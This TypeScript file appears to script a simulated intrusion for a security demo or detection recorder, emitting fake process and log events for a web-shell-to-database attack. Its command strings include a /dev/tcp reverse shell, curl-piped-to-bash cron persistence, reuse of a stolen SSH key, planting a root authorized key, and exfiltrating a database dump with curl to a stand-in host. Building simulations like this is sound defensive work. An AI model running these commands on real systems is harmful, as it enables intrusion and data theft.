import type { Episode, Stage } from '../../../scripts/demo/recording/episode.ts';
import type { LinuxActor } from '../../../scripts/demo/recording/linux-actor.ts';
import type { LinuxProcess } from '../../../scripts/demo/recording/linux-machine.ts';

const attacker = '198.51.100.73';
const dropPoint = '203.0.113.201';
const upload = '/var/www/portal/upload/2024/board_img.php';

/** A file upload that takes PHP becomes a shell on the web server, and a stolen key the way into the database host. */
export const attackWebshell: Episode = {
  id: 'attack-webshell-to-database',
  kind: 'attack',
  title: { ko: '웹셸에서 데이터베이스 유출까지', en: 'Web shell to database theft' },
  play(stage) {
    const web = stage.linux('gd-web-01');
    const shell = breakIn(stage, web);
    stage.scene.wait(240);
    lookAround(stage, web, shell);
    stage.scene.wait(300);
    stay(stage, web, shell);
    stage.scene.wait(560);
    const session = crossOver(stage, web, shell);
    stage.scene.wait(330);
    takeData(stage, session);
  },
};

function request({ scene }: Stage, web: LinuxActor, words: string): void {
  web.syslog({
    facility: 'local0',
    program: 'nginx',
    message: `${attacker} - - ${words} "-" "python-requests/2.31.0"`,
  });
  scene.wait(1);
}

function breakIn(stage: Stage, web: LinuxActor): LinuxProcess {
  const { scene } = stage;
  const php = web.running('php');
  request(stage, web, '"GET /board/write.php HTTP/1.1" 200 8112');
  scene.wait(7);
  request(stage, web, '"POST /board/upload.php HTTP/1.1" 200 61');
  web.writeFile(php, upload);
  scene.wait(5);
  request(stage, web, '"GET /upload/2024/board_img.php?c=id HTTP/1.1" 200 54');
  const probe = web.start({
    parent: php,
    executable: '/usr/bin/dash',
    commandLine: 'sh -c id;uname -a',
    alert: 'TBD',
    workingDirectory: '/var/www/portal/upload/2024',
  });
  web.start({ parent: probe, executable: '/usr/bin/id', commandLine: 'id' });
  web.start({ parent: probe, executable: '/usr/bin/uname', commandLine: 'uname -a' });
  scene.wait(21);
  request(stage, web, '"POST /upload/2024/board_img.php HTTP/1.1" 504 0');
  const starter = web.start({
    parent: php,
    executable: '/usr/bin/dash',
    commandLine: `sh -c bash -c 'bash -i >& /dev/tcp/${attacker}/4443 0>&1'`,
    workingDirectory: '/var/www/portal/upload/2024',
  });
  const shell = web.start({
    parent: starter,
    executable: '/usr/bin/bash',
    commandLine: `bash -c bash -i >& /dev/tcp/${attacker}/4443 0>&1`,
    alert: 'TBD',
  });
  web.connect(shell, { ip: attacker, port: 4443 });
  return web.start({ parent: shell, executable: '/usr/bin/bash', commandLine: 'bash -i' });
}

function lookAround({ scene }: Stage, web: LinuxActor, shell: LinuxProcess): void {
  const commands: [string, string][] = [
    ['/usr/bin/whoami', 'whoami'],
    ['/usr/bin/cat', 'cat /etc/passwd'],
    ['/usr/bin/ps', 'ps -ef --forest'],
    ['/usr/bin/ss', 'ss -tnlp'],
    ['/usr/bin/cat', 'cat /var/www/portal/config/database.php'],
    ['/usr/bin/find', 'find / -name id_* -path */.ssh/* -readable'],
    ['/usr/bin/cat', 'cat /home/deploy/.ssh/id_ed25519'],
  ];
  for (const [executable, commandLine] of commands) {
    web.start({ parent: shell, executable, commandLine });
    scene.wait(scene.random.between(3, 9));
  }
}

function stay({ scene }: Stage, web: LinuxActor, shell: LinuxProcess): void {
  const line = `*/10 * * * * curl -fsS http://${attacker}:8081/u.sh | bash`;
  const adding = web.start({
    parent: shell,
    executable: '/usr/bin/bash',
    commandLine: `bash -c (crontab -l; echo "${line}") | crontab -`,
    alert: 'TBD',
  });
  web.start({ parent: adding, executable: '/usr/bin/crontab', commandLine: 'crontab -l' });
  web.start({ parent: adding, executable: '/usr/bin/crontab', commandLine: 'crontab -' });
  web.syslog({ facility: 'cron', program: 'crontab', pid: adding.pid + 3, message: '(www-data) REPLACE (www-data)' });
  web.writeFile(adding, '/var/spool/cron/crontabs/www-data');
  scene.wait(70);
  const fetch = web.cron('www-data', `curl -fsS http://${attacker}:8081/u.sh | bash`);
  const curl = web.start({
    parent: fetch,
    executable: '/usr/bin/curl',
    commandLine: `curl -fsS http://${attacker}:8081/u.sh`,
  });
  web.connect(curl, { ip: attacker, port: 8081 });
}

function crossOver(stage: Stage, web: LinuxActor, shell: LinuxProcess): { database: LinuxActor; shell: LinuxProcess } {
  const { scene } = stage;
  const database = stage.linux('gd-db-01');
  const copied = web.start({
    parent: shell,
    executable: '/usr/bin/cp',
    commandLine: 'cp /home/deploy/.ssh/id_ed25519 /dev/shm/.k',
  });
  scene.wait(4);
  web.start({ parent: copied.parent ?? shell, executable: '/usr/bin/chmod', commandLine: 'chmod 600 /dev/shm/.k' });
  const ssh = web.start({
    parent: shell,
    executable: '/usr/bin/ssh',
    commandLine: 'ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i /dev/shm/.k deploy@10.20.30.21',
  });
  web.connect(ssh, { ip: '10.20.30.21', port: 22 });
  const session = database.sshLogin({ user: 'deploy', fromIp: web.machine.facts.ip });
  const remote = database.start({
    parent: session,
    executable: '/usr/bin/bash',
    commandLine: '-bash',
    user: 'deploy',
    workingDirectory: '/home/deploy',
  });
  scene.wait(6);
  database.start({ parent: remote, executable: '/usr/bin/sudo', commandLine: 'sudo -l' });
  scene.wait(11);
  const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInventedInventedInventedInventedInvented00 u@h';
  const command = `/usr/bin/bash -c echo ${key} >> /root/.ssh/authorized_keys`;
  database.sudo('deploy', command);
  const root = database.start({
    parent: remote,
    executable: '/usr/bin/bash',
    commandLine: `bash -c echo ${key} >> /root/.ssh/authorized_keys`,
    user: 'root',
    alert: 'TBD',
  });
  database.writeFile(root, '/root/.ssh/authorized_keys');
  return { database, shell: remote };
}

function takeData({ scene }: Stage, { database, shell }: { database: LinuxActor; shell: LinuxProcess }): void {
  const dump = database.start({
    parent: shell,
    executable: '/usr/bin/pg_dump',
    commandLine: 'pg_dump -h 127.0.0.1 -U portal -Fc portal -f /dev/shm/.p.dump',
  });
  database.writeFile(dump, '/dev/shm/.p.dump');
  scene.wait(28);
  const tar = database.start({
    parent: shell,
    executable: '/usr/bin/tar',
    commandLine: 'tar czf /dev/shm/.cache.tgz /dev/shm/.p.dump /srv/share/contracts',
  });
  database.writeFile(tar, '/dev/shm/.cache.tgz');
  scene.wait(19);
  const curl = database.start({
    parent: shell,
    executable: '/usr/bin/curl',
    commandLine: `curl -s -k -T /dev/shm/.cache.tgz https://${dropPoint}/up/`,
    alert: 'TBD',
  });
  database.connect(curl, { ip: dropPoint, port: 443 });
  scene.wait(14);
  database.start({
    parent: shell,
    executable: '/usr/bin/rm',
    commandLine: 'rm -f /dev/shm/.p.dump /dev/shm/.cache.tgz /home/deploy/.bash_history',
  });
  database.deleteFile(shell, '/home/deploy/.bash_history');
}
